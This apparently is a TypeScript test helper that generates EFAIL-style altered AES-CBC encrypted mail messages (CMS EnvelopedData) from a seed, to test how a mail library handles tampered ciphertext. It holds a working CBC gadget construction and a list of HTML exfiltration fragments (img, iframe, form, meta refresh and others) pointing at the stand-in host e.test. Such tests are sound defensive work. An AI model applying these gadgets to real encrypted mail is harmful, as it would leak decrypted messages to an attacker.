/**
 * Mail in AES-CBC, altered by somebody without the key (EFAIL): the same ones for the same seed. Every way leaves the last two blocks alone, so
 * that the padding holds and the message opens.
 */
import { createCipheriv } from 'node:crypto'
import { concatBytes } from '../../src/bytes/bytes.ts'
import type { Chance } from '../differential/random.ts'
import { algorithm, context, contextPrimitive, type Der, integer, octetString, oid, sequence, setOf } from './der.ts'
import { DATA, ENVELOPED, type RecipientMaker } from './enveloped-message.ts'
import { bytesOf } from './signed-message.ts'

const BLOCK = 16
const AES_CBC: Readonly<Record<number, string>> = { 16: '2.16.840.1.101.3.4.1.2', 24: '2.16.840.1.101.3.4.1.22', 32: '2.16.840.1.101.3.4.1.42' }

/** HTML in blocks of sixteen, with room for a block of noise between any two. All of them would ask this host. */
const GADGETS: readonly (readonly [name: string, blocks: readonly string[]])[] = [
  ['a picture', ['<img alt="      ', '" src="//e.test/']],
  ['a picture without quotes', ['<img title=     ', ' src=//e.test/a ']],
  ['a style sheet', ['<link title="   ', '" rel=stylesheet', ' href="//e.test/']],
  ['a sheet that imports', ['<style>/*       ', '*/@import "     ', '//e.test/x"; /* ']],
  ['a background', ['<table title="  ', '" background="//', 'e.test/" title="']],
  ['a frame', ['<iframe title=" ', '" src="//e.test/']],
  ['an object', ['<object title=" ', '" data="//e.test']],
  ['a film', ['<video title="  ', '" poster="//e.te', 'st/" title="    ']],
  ['a form', ['<form title="   ', '" action="//e.te', 'st/"><button>go ']],
  ['a base', ['<base target="  ', '" href="//e.test']],
  ['a refreshing page', ['<meta content="0', ';url=//e.test/" ', 'http-equiv=refre', 'sh>             ']],
  ['a link', ['<a title="      ', '" href="https://', 'e.test/">click  ', '</a>            ']],
  ['a styled link', ['<a style="/*    ', '*/color:red" hre', 'f="//e.test/">go']],
]

export type Malleation = 'gadget' | 'bits of the vector' | 'bits of a block' | 'a block twice' | 'blocks in another order' | 'blocks left out'

export interface Malleated {
  readonly name: string
  /** ContentInfo with EnvelopedData. */
  readonly cms: Der
}

const xor = (...all: readonly Uint8Array[]): Uint8Array => Uint8Array.from({ length: BLOCK }, (_, index) => all.reduce((sum, block) => sum ^ (block[index] ?? 0), 0))

/** @param content - What was encrypted; the attacker knows its first four blocks, and no more. */
export function malleated(content: Uint8Array, way: Malleation, to: RecipientMaker, chance: Chance): Malleated {
  const key = Uint8Array.from({ length: chance.of([16, 24, 32]) }, () => chance.below(256))
  const vector = Uint8Array.from({ length: BLOCK }, () => chance.below(256))
  const cipher = createCipheriv(`aes-${key.length * 8}-cbc`, key, vector)
  const ciphertext = new Uint8Array(Buffer.concat([cipher.update(content), cipher.final()]))
  const blocks = Array.from({ length: ciphertext.length / BLOCK }, (_, index) => ciphertext.slice(index * BLOCK, (index + 1) * BLOCK))
  const { name, blocks: altered } = ALTERATIONS[way]({ content, blocks: [vector, ...blocks], chance })
  const [first = vector, ...rest] = altered
  const info = sequence(oid(DATA), algorithm(AES_CBC[key.length] ?? '', octetString(first)), contextPrimitive(0, concatBytes(rest)))
  return { name, cms: sequence(oid(ENVELOPED), context(0, sequence(integer(0), setOf(to(key)), info))) }
}

interface Given {
  readonly content: Uint8Array
  /** The vector, then the ciphertext. */
  readonly blocks: readonly Uint8Array[]
  readonly chance: Chance
}

type Alteration = (given: Given) => { readonly name: string; readonly blocks: readonly Uint8Array[] }

/** Where an alteration may be: behind the header, before the last two blocks. */
const placeIn = ({ blocks, chance }: Given): number => KNOWN + 1 + chance.below(Math.max(1, blocks.length - KNOWN - 4))
const KNOWN = 4

const ALTERATIONS: Readonly<Record<Malleation, Alteration>> = {
  // A known block's pair decrypts to whatever is wanted, behind a block of noise.
  gadget: given => {
    const { content, blocks, chance } = given
    const [name, wanted] = chance.of(GADGETS)
    const known = 1 + chance.below(KNOWN)
    const [before, behind] = [blocks[known - 1], blocks[known]] as [Uint8Array, Uint8Array]
    const plain = content.subarray((known - 1) * BLOCK, known * BLOCK)
    const pairs = wanted.flatMap(text => [xor(before, plain, bytesOf(text)), behind])
    const at = placeIn(given)
    return { name, blocks: [...blocks.slice(0, at), ...pairs, ...blocks.slice(at)] }
  },
  'bits of the vector': ({ blocks: [vector = new Uint8Array(BLOCK), ...rest], chance }) => ({ name: 'vector', blocks: [flipped(vector, chance), ...rest] }),
  'bits of a block': given => {
    const at = placeIn(given)
    return { name: `block ${at}`, blocks: given.blocks.map((block, index) => (index === at ? flipped(block, given.chance) : block)) }
  },
  'a block twice': given => {
    const at = placeIn(given)
    return { name: `block ${at}`, blocks: [...given.blocks.slice(0, at), ...given.blocks.slice(at - 1)] }
  },
  'blocks in another order': given => {
    const [one, other] = [placeIn(given), placeIn(given)]
    const swapped = (index: number) => (index === one ? other : index === other ? one : index)
    return { name: `${one} and ${other}`, blocks: given.blocks.map((_block, index) => given.blocks[swapped(index)] ?? new Uint8Array(BLOCK)) }
  },
  'blocks left out': given => {
    const at = placeIn(given)
    return { name: `block ${at}`, blocks: given.blocks.filter((_block, index) => index !== at) }
  },
}

function flipped(block: Uint8Array, chance: Chance): Uint8Array {
  const changed = block.slice()
  for (let count = 1 + chance.below(4); count > 0; count--) {
    const at = chance.below(BLOCK)
    changed[at] = (changed[at] ?? 0) ^ (1 << chance.below(8))
  }
  return changed
}
